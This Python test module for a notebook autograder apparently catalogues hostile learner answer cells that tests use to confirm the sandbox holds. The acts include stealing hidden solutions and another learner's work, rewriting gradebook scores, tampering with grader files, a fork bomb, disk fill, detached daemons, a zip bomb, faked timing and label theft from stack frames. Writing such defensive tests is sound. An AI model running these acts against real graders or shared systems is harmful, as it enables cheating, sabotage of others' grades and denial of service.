"""The hostile catalogue: what a learner could put in an answer cell to score marks not earned,
to change other learners' grades or the grader, or to stall the batch.

Each act is the source of 01_unroll's first answer cell, in an otherwise untouched released
notebook (the stubs): an honest learner who wrote nothing scores 0, so every act must score 0
too.  An act that "works" makes ``unroll_1d`` the reference's (full marks on that item) or leaves
a trace the tests look for (a changed file, a process, a connection).  Placeholders, filled by
:func:`act_source`: ``{repo}`` (the repository), ``{course}`` (the course root), ``{port}`` (a
TCP port the test listens on, on loopback).

Every act is bounded (loops, sizes and sleeps have ends), so a broken sandbox fails a test
rather than the machine.
"""

# Shared by the acts: make unroll_1d the reference's, from a module or an answer cell's source.
ADOPT = '''
import importlib, json, os, sys
def adopt(module):
    global unroll_1d
    unroll_1d = module.unroll_1d
def adopt_notebook(path):
    cells = json.load(open(path))["cells"]
    for cell in cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "answer_unroll_1d":
            exec("".join(cell["source"]), globals())
def stub(x, kernel_size):
    raise NotImplementedError()
unroll_1d = stub
'''

ACTS = {
    # Marks not earned: the reference or the model answers, from disk.
    "walk_up": """
here = os.getcwd()
for _ in range(12):
    if os.path.exists(os.path.join(here, "solutions", "__init__.py")):
        sys.path.insert(0, here)
        adopt(importlib.import_module("solu" + "tions"))
        break
    here = os.path.dirname(here)
""",
    "absolute_path": """
try:
    print(open("{repo}/solutions/unroll1d.py").read())
    sys.path.insert(0, "{repo}")
    adopt(importlib.import_module("solu" + "tions"))
except Exception as error:
    print("absolute_path:", type(error).__name__)
""",
    "main_environment": """
import glob
for site in glob.glob("{repo}/.venv/lib/python3*/site-packages"):
    sys.path.insert(0, site)
try:
    adopt(importlib.import_module("solu" + "tions"))
except Exception as error:
    print("main_environment:", type(error).__name__)
""",
    "model_answers": """
for path in ("{course}/source/01_unroll/01_unroll.ipynb",
             "../../../source/01_unroll/01_unroll.ipynb"):
    try:
        adopt_notebook(path)
        break
    except Exception as error:
        print("model_answers:", type(error).__name__)
""",
    "other_learner": """
for path in ("{course}/submitted/ada/01_unroll/01_unroll.ipynb",
             "{course}/autograded/ada/01_unroll/01_unroll.ipynb",
             "../../ada/01_unroll/01_unroll.ipynb"):
    try:
        print(open(path).read()[:3000])
        adopt_notebook(path)
        break
    except Exception as error:
        print("other_learner:", type(error).__name__)
""",
    # Other learners' grades.
    "gradebook": """
import sqlite3
for path in ("{course}/gradebook.db", "../../../gradebook.db"):
    try:
        db = sqlite3.connect(path, timeout=1)
        db.execute("UPDATE grade SET manual_score = 0")
        db.execute("UPDATE grade SET extra_credit = 100")
        db.commit()
        db.execute("BEGIN EXCLUSIVE")  # and hold the lock for the rest of the notebook
    except Exception as error:
        print("gradebook:", type(error).__name__)
""",
    "overwrite_victim": """
for path in ("{course}/submitted/ada/01_unroll/01_unroll.ipynb",
             "{course}/.submitted-backup/ada/01_unroll/01_unroll.ipynb"):
    try:
        open(path, "w").write("{{}}")
    except Exception as error:
        print("overwrite_victim:", type(error).__name__)
""",
    # The grader itself, for every later learner.
    "tamper": """
targets = [
    "{repo}/exercises/01_unroll/grading.py",
    "{repo}/autograder/judge.py",
    "{repo}/solutions/unroll1d.py",
    "{course}/source/01_unroll/grading_kit/record.py",
    "{course}/source/01_unroll/01_unroll.ipynb",
    "{course}/nbgrader_config.py",
    "{repo}/.venv/share/jupyter/kernels/conv-learner/kernel.json",
    "grading_kit/record.py",
]
import glob
targets += glob.glob("{repo}/.venv-learner/lib/python3*/site-packages") + glob.glob(
    "/opt/learner/lib/python3*/site-packages")
for path in targets:
    try:
        if os.path.isdir(path):
            open(os.path.join(path, "zz_hostile.pth"), "w").write("import os\\n")
        else:
            open(path, "a").write("\\n# hostile\\n")
        print("tamper: wrote", path)
    except Exception as error:
        print("tamper:", type(error).__name__)
""",
    # The batch: processes that outlive the kernel, a fork bomb, a disk fill, the network.
    "daemon": """
import subprocess, time
code = ("import time\\n"
        "for _ in range(90):\\n"
        "    time.sleep(1)\\n"
        "    open('{course}/daemon-was-here', 'w').write('x')\\n")
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(90)
        os._exit(0)
    os._exit(0)
""",
    "fork_bomb": """
import time
children = 0
for _ in range(500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children += 1
print("fork_bomb: started", children, "processes")
""",
    "disk_fill": """
block = b"x" * (16 * 1024**2)
for path in ("filler", "/tmp/filler"):
    written = 0
    try:
        with open(path, "wb") as handle:
            for _ in range(256):  # at most 4 GiB
                handle.write(block)
                handle.flush()
                written += len(block)
    except OSError as error:
        print("disk_fill:", path, written, type(error).__name__)
""",
    "connect": """
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"hostile")
        print("connect: connected to", host)
    except OSError as error:
        print("connect:", type(error).__name__)
""",
    "record_flood": """
from IPython.display import display
mime = "application/vnd.conv-course.record+json"
for _ in range(5):
    display({{mime: {{"item": "unroll_1d", "cases": [], "npz": "A" * 10_000_000}}}}, raw=True)
""",
    # What the kernel sees (printed, read back by the tests from the autograded notebook).
    "probe": """
import glob
print("PROBE", json.dumps(dict(
    uid=os.getuid(), root=sorted(os.listdir("/")), cwd=os.getcwd(),
    scratch=sorted(os.listdir(".")), tmp=sorted(os.listdir("/tmp")),
    repo=os.path.exists("{repo}"), course=os.path.exists("{course}"),
    home=sorted(glob.glob("/root/*")),
    pids=len([p for p in os.listdir("/proc") if p.isdigit()]),
)))
""",
    "zip_bomb": """
import base64, io
import numpy as np
import grading_kit.record as recorder
buffer = io.BytesIO()
np.savez_compressed(buffer, c0_0=np.zeros(400_000_000, np.uint8))  # 400 MB, 0.4 MB zipped
bomb = base64.b64encode(buffer.getvalue()).decode("ascii")
recorder.encode = lambda arrays: bomb
""",
}


def act_source(act, repo, course, port):
    """The answer cell of one act, placeholders filled."""
    return ADOPT + ACTS[act].format(repo=repo, course=course, port=port)


# Acts against items that are not plain calls: each replaces one answer of the model answers.
# (assignment, item whose answer cell gets the act, the honest answer it starts from: a mistake
# file of that assignment or None for the model answer, code appended to that answer)
ITEM_ACTS = {
    # A slow loop that patches the kit's timing inside the kernel to claim a big speed-up.
    "speed_patch": ("08_fast", "conv2d_fast", "loop_over_positions.py", """
import grading_kit.drivers as drivers
_run = drivers.SpeedDriver.run
drivers.SpeedDriver.run = lambda self, target, inputs, positional: [
    1000.0, _run(self, target, {**inputs, "repeats": 1}, positional)[1]]
drivers.median_seconds = lambda function, calls: (function(), 1e-6)[1]
import time
time.perf_counter = lambda: 0.0
"""),
    # An untrained classifier that looks for the held-out labels in the caller's frames.
    "classifier_frames": ("07_cnn", "train_classifier", None, """
import sys
import numpy as np


def train_classifier(images, labels):
    stolen = None
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and isinstance(value.get("data"), dict):
                from grading_kit import datasets
                stolen = datasets.make_split(**value["data"])[3]
        frame = frame.f_back

    class Model:
        seen = 0

        def forward(self, x):
            logits = np.zeros((len(x), 4))
            if stolen is not None:
                rows = np.arange(len(x))
                logits[rows, stolen[self.seen : self.seen + len(x)] % 4] = 1.0
            self.seen += len(x)
            return logits

    return Model()
"""),
}
